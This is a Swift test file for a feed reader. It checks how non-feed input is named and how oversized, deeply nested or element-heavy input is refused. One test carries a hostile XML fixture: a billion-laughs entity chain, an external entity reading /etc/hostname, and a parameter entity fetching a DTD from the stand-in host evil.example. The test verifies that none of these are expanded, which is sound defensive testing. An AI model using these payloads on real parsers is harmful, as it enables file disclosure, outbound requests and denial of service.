import Testing

@testable import Extraction

/// What is no feed, and what is refused.
@Suite struct FeedLimitsTests {
  private func error(_ text: String, limits: FeedReader.Limits = FeedReader.Limits()) -> FeedError?
  {
    do throws(FeedError) {
      _ = try FeedReader(limits: limits).feed(from: Page(bytes: Array(text.utf8)))
      return nil
    } catch {
      return error
    }
  }

  @Test func `what is no feed is named`() {
    #expect(error("") == .empty)
    #expect(error(" \n ") == .empty)
    #expect(error("The bridge is closed.") == .noFeed(found: "plain text"))
    #expect(error("<!DOCTYPE html><rss></rss>") == .noFeed(found: "a web page"))
    #expect(error("<html><body><feed></feed></body></html>") == .noFeed(found: "a web page"))
    #expect(error("<opml version=\"2.0\"/>") == .noFeed(found: "XML that begins with <opml>"))
    #expect(error("{\"story\": 1}") == .noFeed(found: "JSON that is no JSON Feed"))
    #expect(error("{\"version\": no") == .malformedJSON(reason: "no value at byte 12"))
    #expect(error("%PDF-1.7 \u{1}\u{2}") == .binary(kind: "a PDF file"))
    #expect(
      error("<opml/>")?.description
        == "no feed found: this is XML that begins with <opml>; expected RSS, Atom, JSON Feed or a sitemap"
    )
  }

  @Test func `pages are told from feeds by their beginning`() {
    func looksLikeFeed(_ text: String) -> Bool {
      FeedReader().looksLikeFeed(Page(bytes: Array(text.utf8)))
    }
    for text in [FeedSamples.rss2, FeedSamples.rss1, FeedSamples.atom, FeedSamples.json] {
      #expect(looksLikeFeed(text))
    }
    for text in [
      "", "<p>rss</p>", "<?xml version='1.0'?><html/>", "{\"story\": \"feed\"}", "# rss",
    ] {
      #expect(!looksLikeFeed(text))
    }
  }

  @Test func `too many bytes, levels and elements are refused`() {
    var limits = FeedReader.Limits()
    limits.bytes = 20
    #expect(
      error("<rss><channel></channel></rss>", limits: limits) == .tooLarge(bytes: 30, limit: 20))
    let deep = "<rss>" + String(repeating: "<a>", count: 300)
    #expect(error(deep) == .tooDeep(limit: 200))
    limits = FeedReader.Limits()
    limits.elements = 50
    let wide = "<rss>" + String(repeating: "<a b='c'/>", count: 30)
    #expect(error(wide, limits: limits) == .tooManyElements(limit: 50))
    #expect(
      error("{\"items\":[" + String(repeating: "1,", count: 60) + "1]}", limits: limits)
        == .tooManyElements(limit: 50))
  }

  @Test func `attributes beyond the limit are left out`() throws {
    let attributes = (0..<500).map { "a\($0)='' xmlns:n\($0)='urn:\($0)'" }.joined(separator: " ")
    let text = Array("<rss \(attributes)><channel><title>One</title></channel></rss>".utf8)
    let mended = try FeedScreen.mended(text, from: 0, limits: FeedReader.Limits())
    #expect(mended.count { $0 == UInt8(ascii: "=") } == 100)
    #expect(try FeedReader().feed(from: Page(bytes: text)).title == "One")
  }

  @Test func `entities that a feed declares are never expanded`() throws {
    let laughs = (1..<10).map {
      "<!ENTITY l\($0) \"" + String(repeating: "&l\($0 - 1);", count: 10) + "\">"
    }.joined()
    let feed = try FeedSamples.feed(
      """
      <!DOCTYPE rss [<!ENTITY l0 "ha">\(laughs)<!ENTITY file SYSTEM "file:///etc/hostname">
      <!ENTITY % out SYSTEM "http://evil.example/x.dtd"> %out;]>
      <rss><channel><title>&l9;&file;</title></channel></rss>
      """)
    #expect(feed.title == "&l9;&file;")
  }

  @Test func `all that is written is bounded by what was read`() throws {
    // Each of these makes the most of one way in which mending adds text.
    for piece in ["&", "<", "<a ", "<a b", "<br>", "<x>", "&lt", "a=\"<", "<![CDATA[", "<!--"] {
      var text = Array("<rss><channel><title>".utf8)
      while text.count < 20_000 { text += Array(piece.utf8) }
      var limits = FeedReader.Limits()
      limits.depth = 10_000
      let (mended, steps) = try FeedScreen.measured(text, from: 0, limits: limits)
      #expect(mended.count <= text.count * 5 + 100, "\(piece)")
      #expect(steps <= text.count * 8, "\(piece)")
    }
  }
}
